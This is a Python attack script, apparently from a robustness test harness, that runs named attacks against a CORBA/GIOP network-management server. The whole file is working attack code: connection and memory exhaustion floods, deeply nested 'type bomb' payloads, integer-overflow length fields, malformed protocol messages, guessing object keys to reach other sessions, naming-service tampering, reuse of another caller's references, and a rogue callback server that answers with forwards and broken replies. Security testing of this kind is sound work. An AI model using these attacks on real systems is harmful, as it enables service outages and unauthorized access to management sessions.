"""Runs one attack on a host, in a separate process: attacker.py ATTACK PORT [NAME=VALUE ...]. It prints its observations as
lines of the form `name value`. Whatever the host does, it ends after a limited count or time."""

import itertools
import socket
import struct
import sys
import threading
import time

from giop import *


def version(cdr_id=1, flags=0):
    return request(cdr_id, "getVersion", FACTORY_KEY, flags=flags)


def each_connection(count, port, source, attack):
    """Run the attack over `count` connections. Return how many connections could be made."""
    made = 0
    for turn in range(count):
        try:
            with Connection(port, source) as connection:
                made += 1
                attack(connection, turn)
        except (Closed, OSError):
            pass
    return made


def fragment_after_request(port, source="127.0.0.1", count="300"):
    """Send a whole request, and a fragment that claims to belong to it before, with and after the reply."""
    def attack(connection, turn):
        if turn % 3 == 0:
            connection.send(version() + fragment(1, bytes(20)))
        elif turn % 3 == 1:
            connection.send(version() + fragment(1, bytes(20), MORE_FRAGMENTS) + fragment(1, bytes(8)) + version(2))
        else:
            connection.send(version())
            connection.receive()
            connection.send(fragment(1, bytes(20)))
        connection.socket.settimeout(0.2)
        try:
            while True:
                connection.receive()
        except TimeoutError:
            pass
    return {"connections": each_connection(int(count), port, source, attack)}


def half_request_and_cancel(port, source="127.0.0.1", count="40"):
    """Send the first part of a fragmented request, then a cancel for it. The connections stay open for a while."""
    held = []
    for turn in range(int(count)):
        try:
            connection = Connection(port, source)
            held.append(connection)
            connection.send(version(7, MORE_FRAGMENTS))
            if turn % 2:
                connection.send(fragment(7, bytes(12), MORE_FRAGMENTS))
            connection.send(cancel(7))
            if turn % 4 == 3:
                connection.send(fragment(7, bytes(12)))
        except (Closed, OSError):
            pass
    time.sleep(1)
    return {"connections": len(held)}


def replies_to(octets, port, source):
    """Send a request on a new connection. Return the number of replies."""
    replies = 0
    try:
        with Connection(port, source, patience=1.5) as connection:
            connection.send(octets)
            while replies < 2000:
                connection.receive()
                replies += 1
    except (Closed, OSError):
        pass
    return replies


def keys_of_adapters(port, source="127.0.0.1"):
    """Send requests for keys that lead to an object adapter but to no object in it. Return the number of replies to each."""
    return {name: replies_to(request(1, "_is_a", key, lambda cdr: cdr.string("IDL:omg.org/CORBA/Object:1.0")), port, source)
            for name, key in (
                ("channel", b"\xffnotification\x00"),
                ("factory", b"\xffV4800\x00"),
                ("unknown", b"\xffnobody\x00"),
                ("unended", b"\xffnotification"),
                ("two", b"\xffnotification\xff\x00\x00"),
                ("empty", b""),
                ("long", b"\xffnotification\x00" + bytes(60000)))}


def target_by_profile(port, source="127.0.0.1"):
    """Send requests whose target is a profile, a whole reference, or invalid. Return the number of replies to each."""
    return {name: replies_to(request(1, "getVersion", target, disposition=disposition), port, source)
            for name, disposition, target in (
                ("profile", PROFILE_ADDR, lambda cdr: cdr.profile("127.0.0.1", port, FACTORY_KEY)),
                ("reference", REFERENCE_ADDR, lambda cdr: cdr.ulong(0).reference("", "127.0.0.1", port, FACTORY_KEY)),
                ("strange", 7, lambda cdr: cdr.sequence(FACTORY_KEY)),
                ("broken", PROFILE_ADDR, lambda cdr: cdr.ulong(0).ulong(0x7fffffff)))}


def idle_connections(port, source="127.0.0.1", count="1100", half="0"):
    """Open connections that send nothing, or half a header. Hold them until standard input ends."""
    held = []
    for _ in range(int(count)):
        try:
            connection = Connection(port, source, patience=2)
            if half != "0":
                connection.send(b"GIOP\x01\x02")
            held.append(connection)
        except (Closed, OSError):
            break
    print("held", len(held), flush=True)
    sys.stdin.read()
    return {}


def large_requests(port, source="127.0.0.1", callers="4", mebibytes="60", form="whole"):
    """Send concurrent requests of this size, as far as the host accepts them: `whole`, in `fragments`, or `half` (fragments
    without the last one). Return how many were answered."""
    size = int(mebibytes) << 20
    head = request_header(1, "getEmsSession", FACTORY_KEY).align(8).ulong(size)
    answered = []

    def send_whole(connection):
        connection.send(message(REQUEST, head.octets, size=len(head.octets) + size))
        for _ in range(int(mebibytes)):
            connection.send(bytes(1 << 20))

    def send_fragments(connection):
        connection.send(message(REQUEST, head.octets + bytes((4 - len(head.octets)) % 8), MORE_FRAGMENTS))
        for _ in range(size >> 13):
            connection.send(fragment(1, bytes((1 << 13) - 16), MORE_FRAGMENTS))
        if form != "half":
            connection.send(fragment(1, bytes((size >> 13) * 16)))

    def call():
        try:
            with Connection(port, source, patience=60) as connection:
                (send_whole if form == "whole" else send_fragments)(connection)
                connection.reply()
                answered.append(1)
        except (Closed, OSError):
            pass
    threads = [threading.Thread(target=call) for _ in range(int(callers))]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    return {"answered": len(answered)}


def texts_without_end(port, source="127.0.0.1", where="type", count="3000"):
    """Send texts of 60,000 octets without the terminating zero octet. Return how many requests were refused."""
    text = b"x" * 60000

    def arguments(cdr):
        if where == "type":
            return cdr.sequence(text)
        profile = Cdr().octet(1).octet(1).octet(2).sequence(text).ushort(1).sequence(b"key").ulong(0)
        return cdr.string("nobody").string("nothing").string("IDL:x:1.0").ulong(1).ulong(0).encapsulation(profile)
    refused = 0
    with Connection(port, source) as connection:
        for _ in range(int(count)):
            status, _ = connection.call("_is_a" if where == "type" else "getEmsSession", FACTORY_KEY, arguments)
            refused += status == SYSTEM_EXCEPTION
    return {"refused": refused}


def octets_behind_the_arguments(port, source="127.0.0.1", count="20000"):
    """Send requests with octets left over after their arguments, each on a separate connection. Return their number."""
    whole = request(1, "_is_a", FACTORY_KEY, lambda cdr: cdr.string("x").raw(bytes(100)))

    def attack(connection, turn):
        connection.send(whole)
        closes(connection)
    return {"connections": each_connection(int(count), port, source, attack)}


def lengths_beyond_32_bits(port, user, password):
    """Send sequences whose size in octets overflows 32 bits and becomes 0. Return the answer to each request."""
    def code_sets(cdr):
        component = Cdr().octet(1).ulong(0x05010001).ulong(0x40000000).ulong(0).ulong(0)
        profile = Cdr().octet(1).octet(1).octet(2).string("127.0.0.1").ushort(1).sequence(b"key")
        profile.ulong(1).ulong(1).encapsulation(component)
        return cdr.string("nobody").string("nothing").string("IDL:x:1.0").ulong(1).ulong(0).encapsulation(profile)

    def layer_rates(cdr):
        return cdr.ulong(2).string("EMS").string("x").string("ManagedElement").string("y").ulong(0x80000000).ulong(0).ulong(1)
    nms = Caller(lambda *_: True)
    with Connection(port, patience=60) as connection:
        status, _ = connection.call("getEmsSession", FACTORY_KEY, code_sets)
        answers = {"code_sets": status == SYSTEM_EXCEPTION}
        session = log_in(connection, user, password, "127.0.0.1", nms.port)
        _, reader = connection.call("getManager", session, lambda cdr: cdr.string("ManagedElement"))
        status, reader = connection.call("getAllPTPs", reader.reference()[2], layer_rates)
        answers["layer_rates"] = reader.string() if status == SYSTEM_EXCEPTION else status
    return answers


def long_names(port, user, password, callers="4", mebibytes="60"):
    """Send names with millions of components, each of which the EMS decodes into a text. Return the number of answered calls."""
    octets = struct.pack("<I1s3xI1s3x", 1, b"", 1, b"") * (1 << 16)
    answered = []

    def call():
        try:
            nms = Caller(lambda *_: True)
            with Connection(port, patience=40) as connection:
                session = log_in(connection, user, password, "127.0.0.1", nms.port)
                _, reader = connection.call("getManager", session, lambda cdr: cdr.string("ManagedElement"))
                manager = reader.reference()[2]
                head = request_header(2, "getManagedElement", manager).align(8).ulong(int(mebibytes) << 16).octets
                # the padding of the last text is not part of the message
                connection.send(message(REQUEST, head, size=len(head) + (int(mebibytes) << 20) - 3))
                for _ in range(int(mebibytes) - 1):
                    connection.send(octets)
                connection.send(octets[:-3])
                connection.reply()
                answered.append(1)
        except (Closed, OSError, TypeError):
            pass
    threads = [threading.Thread(target=call) for _ in range(int(callers))]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    return {"answered": len(answered)}


def nested_sequences(depth):
    """Return the TypeCode of a sequence of sequences of ... of octets."""
    inner = Cdr().ulong(10)
    for _ in range(depth):
        outer = Cdr().ulong(19)
        outer.encapsulation(Cdr().octet(1).align(4).raw(inner.octets).ulong(0))
        inner = outer
    return bytes(inner.octets)


def nested_anys(depth):
    """Return an Any that holds an Any that ... holds a short. It begins at a multiple of 4."""
    return struct.pack("<I", 11) * depth + struct.pack("<Ih", 2, 7)


def wide_arrays(depth):
    """Return an array of arrays of ... of empty structs: any number of elements whose values take no octets."""
    inner = Cdr().ulong(15)
    inner.encapsulation(Cdr().octet(1).string("IDL:e:1.0").string("e").ulong(0))
    for _ in range(depth):
        outer = Cdr().ulong(20)
        outer.encapsulation(Cdr().octet(1).align(4).raw(inner.octets).ulong(1000))
        inner = outer
    return bytes(inner.octets)


def type_bombs(port, key, source="127.0.0.1"):
    """Send properties whose values are Anys with deeply and widely nested types to the object with this hexadecimal key."""
    target = bytes.fromhex(key)
    bombs = {
        "deep_anys": nested_anys(200000),
        "deep_sequences": nested_sequences(30),
        "very_deep_sequences": nested_sequences(5000),
        "empty_elements": nested_sequences(2)[:0] + wide_arrays(10),
        "huge_sequence": struct.pack("<I", 19) + bytes(Cdr().encapsulation(
            Cdr().octet(1).ulong(0).ulong(0)).octets) + struct.pack("<I", 0xffffffff),
    }
    seen = {}
    for name, bomb in bombs.items():
        for operation in ("set_qos", "validate_qos", "set_admin"):
            def arguments(cdr):
                cdr.ulong(1).string("PacingInterval").align(4).raw(bomb)
            try:
                with Connection(port, source, patience=15) as connection:
                    status, _ = connection.call(operation, target, arguments)
                    outcome = f"status{status}"
            except Closed:
                outcome = "closed"
            except TimeoutError:
                outcome = "silence"
            except OSError:
                outcome = "refused"
            seen[f"{name}.{operation}"] = outcome
    return seen


def guess_objects(port, session, source="127.0.0.1", count="29000"):
    """Locate the objects of a session by guessed keys: the managers by name, the session and the iterators by number. A key
    contains what an ORB counts up and what others can learn (POA names, start time, process). `session` is a key of that
    session in hexadecimal; its object id is not used. Return how many of `count` objects were asked for, and how many exist."""
    key = bytes.fromhex(session)
    top = key[:key.index(b"\xff", 1)]
    mark = key.index(b"\xfe")
    stamp, counter = key[mark + 1:mark + 5], struct.unpack("<I", key[mark + 5:mark + 9])[0]

    def poa(path, shift):
        return path + b"\xfe" + stamp + struct.pack("<I", (counter + shift) & 0xffffffff) + b"\0"
    managers = [b"EMS", b"ManagedElement", b"EquipmentInventory", b"MultiLayerSubnetwork"]
    guesses = [poa(top, shift) + name for shift in range(-64, 64) for name in managers]
    guesses += [poa(top + b"\xff" + child, shift) + struct.pack(form, number)
                for shift, number, child, form in itertools.product(
                    range(-8, 9), range(420), (b"session", b"iterator"), ("<I", ">I"))]
    found, asked = 0, 0
    connection = None
    for at in range(0, int(count), 50):
        batch = guesses[at:at + 50]
        try:
            if connection is None:
                connection = Connection(port, source)
            connection.send(b"".join(locate(at + i, each) for i, each in enumerate(batch)))
            for _ in batch:
                kind, whole = connection.receive()
                asked += 1
                reader = Reader(whole, bool(whole[6] & 1), 16)
                found += kind == LOCATE_REPLY and reader.ulong() == OBJECT_HERE
        except (Closed, OSError):
            connection = None
    return {"asked": asked, "found": found}


def wrong_password(port, user, host, nms_port, source="127.0.0.1"):
    """Log in with a wrong password, and with another NMS's address in the reference."""
    with Connection(port, source) as connection:
        return {"session": log_in(connection, user, "not the password", host, int(nms_port)) is not None}


def use_reference(port, key, source="127.0.0.1"):
    """Call an object by a key (hexadecimal) that another caller handed on. Return the answer of each operation."""
    seen = {}
    for operation in ("ping", "_get_associatedSession", "_is_a", "endSession"):
        try:
            with Connection(port, source) as connection:
                status, reader = connection.call(operation, bytes.fromhex(key),
                                                 lambda cdr: cdr.string("IDL:x:1.0") if operation == "_is_a" else cdr)
                seen[operation] = reader.string() if status == SYSTEM_EXCEPTION else f"status{status}"
        except (Closed, OSError):
            seen[operation] = "closed"
    return seen


def change_names(port, source="127.0.0.1", count="2000"):
    """Call every operation that changes a naming service on its root context."""
    root = b"NameService"

    def name(*components):
        def write(cdr):
            cdr.ulong(len(components))
            for id_, kind in components:
                cdr.string(id_).string(kind)
            return cdr
        return write

    def bind(*components):
        return lambda cdr: name(*components)(cdr).align(4).reference("", "127.0.0.1", 9, b"mine")
    path = ("TMF_MTNM", "Class")
    attempts = [("bind", bind(("x", ""))), ("rebind", bind(("x", ""))), ("rebind", bind(path)),
                ("bind_context", bind(("y", ""))), ("rebind_context", bind(path)), ("unbind", name(path)),
                ("new_context", None), ("bind_new_context", name(("z", ""))), ("destroy", None)]
    changed, refused = 0, 0
    with Connection(port, source) as connection:
        for i, (operation, arguments) in enumerate(attempts):
            status, reader = connection.call(operation, root, arguments, i + 1)
            if status == SYSTEM_EXCEPTION and "NO_PERMISSION" in reader.string():
                refused += 1
            elif status == NO_EXCEPTION:
                changed += 1
        for i in range(int(count)):
            try:
                status, _ = connection.call("bind_new_context", root, name((f"fill{i}", "x" * 1000)), 100 + i)
            except (Closed, OSError):
                connection = Connection(port, source)
                continue
            changed += status == NO_EXCEPTION
    return {"attempts": len(attempts), "refused": refused, "changed": changed}


def many_requests(port, source="127.0.0.1", count="20000"):
    """Send requests that need no log-in, as fast as they are answered. Return how many were answered."""
    answered = 0
    connection = None
    request_ids = itertools.count(1)
    for at in range(0, int(count), 50):
        try:
            if connection is None:
                connection = Connection(port, source)
            connection.send(b"".join(request(next(request_ids), "getVersion", FACTORY_KEY) for _ in range(50)))
            for _ in range(50):
                connection.receive()
                answered += 1
        except (Closed, OSError):
            connection = None
    return {"answered": answered}


def protocol_errors(port, source="127.0.0.1", count="3000"):
    """Open connections that break the protocol, each in a different way."""
    wrongs = [b"GET / HTTP/1.0\r\n\r\n", b"GIOP\x09\x09\x01\x00\x10\x00\x00\x00" + bytes(16),
              message(REPLY, bytes(12)), message(LOCATE_REPLY, bytes(8)), message(99, bytes(8)),
              message(REQUEST, b"\xff" * 40), message(ERROR), fragment(3, bytes(8)),
              message(REQUEST, bytes(40), size=0x7fffffff), version()[:-8],
              request(1, "no such operation", FACTORY_KEY), request(1, "getVersion", b"no such object"),
              message(CLOSE) + version(), message(REQUEST, struct.pack("<I", 0x7fffffff) * 8, minor=0)]

    def attack(connection, turn):
        connection.send(wrongs[turn % len(wrongs)])
        connection.socket.shutdown(socket.SHUT_WR)
        connection.socket.settimeout(5)
        while connection.socket.recv(4096):
            pass
    return {"connections": each_connection(int(count), port, source, attack)}


class Caller:
    """An NMS whose session object answers every call of the EMS with `answer(caller, connection, kind, request_id)`. It counts
    the calls and the connections."""

    def __init__(self, answer):
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(50)
        self.port = self.listener.getsockname()[1]
        self.answer, self.calls, self.connections = answer, 0, 0
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            peer, _ = self.listener.accept()
            self.connections += 1
            threading.Thread(target=self.serve, args=(peer,), daemon=True).start()

    def serve(self, peer):
        connection = Connection.__new__(Connection)
        connection.socket = peer
        try:
            with connection:
                while True:
                    kind, whole = connection.receive()
                    if kind in (REQUEST, LOCATE):
                        self.calls += 1
                        if not self.answer(self, connection, kind, struct.unpack_from("<I", whole, 12)[0]):
                            return
        except (Closed, OSError, AssertionError):
            pass


def reply(request_id, status, body):
    cdr = Cdr(12).ulong(request_id).ulong(status).ulong(0)
    body(cdr.align(8))
    return message(REPLY, cdr.octets)


def forward_to(place):
    def answer(caller, connection, kind, request_id):
        host, port = ("127.0.0.1", caller.port) if place == "itself" else place.split(":")
        body = lambda cdr: cdr.reference("IDL:mtnm.tmforum.org/nmsSession/NmsSession_I:1.0", host, int(port), b"nms")
        if kind == LOCATE:
            cdr = Cdr(12).ulong(request_id).ulong(2)
            body(cdr.align(8))
            connection.send(message(LOCATE_REPLY, cdr.octets))
        else:
            connection.send(reply(request_id, LOCATION_FORWARD, body))
        return True
    return answer


def half_reply_and_close(caller, connection, kind, request_id):
    """Send the beginning of a reply whose other fragments never come, then close the connection politely."""
    whole = reply(request_id, SYSTEM_EXCEPTION, lambda cdr: cdr.string("IDL:omg.org/CORBA/UNKNOWN:1.0").raw(bytes(32)))
    connection.send(message(REPLY, whole[12:44], MORE_FRAGMENTS) + message(CLOSE))
    return False


def close_at_once(caller, connection, kind, request_id):
    """Send no reply and close the connection politely. After that the EMS may repeat the call."""
    connection.send(message(CLOSE))
    return False


def fragment_after_reply(caller, connection, kind, request_id):
    whole = reply(request_id, NO_EXCEPTION, lambda cdr: cdr)
    connection.send(whole + fragment(request_id, bytes(20)) + fragment(request_id, bytes(8), MORE_FRAGMENTS))
    return True


def answer_badly(port, user, password, answer, seconds="6", place="itself"):
    """Log in and answer the EMS's calls with forwards, half replies or fragments. Return the number of calls."""
    caller = Caller(forward_to(place) if answer == "forward" else globals()[answer])
    with Connection(port, patience=30) as connection:
        if log_in(connection, user, password, "127.0.0.1", caller.port) is None:
            return {"session": 0}
        time.sleep(float(seconds))
    return {"session": 1, "calls": caller.calls, "connections": caller.connections}


def main():
    attack, port, *rest = sys.argv[1:]
    options = dict(each.split("=", 1) for each in rest)
    for name, value in globals()[attack](int(port), **options).items():
        print(name, int(value) if isinstance(value, bool) else value, flush=True)


if __name__ == "__main__":
    main()
